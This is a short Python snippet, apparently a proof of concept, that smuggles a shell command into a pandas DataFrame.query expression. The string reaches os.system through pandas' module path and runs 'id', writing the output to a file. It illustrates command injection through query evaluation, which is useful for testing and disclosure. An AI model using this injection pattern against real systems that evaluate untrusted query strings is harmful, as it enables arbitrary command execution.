import pandas as pd
q = '@pd.io.common.os' + ".system('id>pf') == 0"
my_t = pd.DataFrame({'a': [1]}).query
my_t(q)
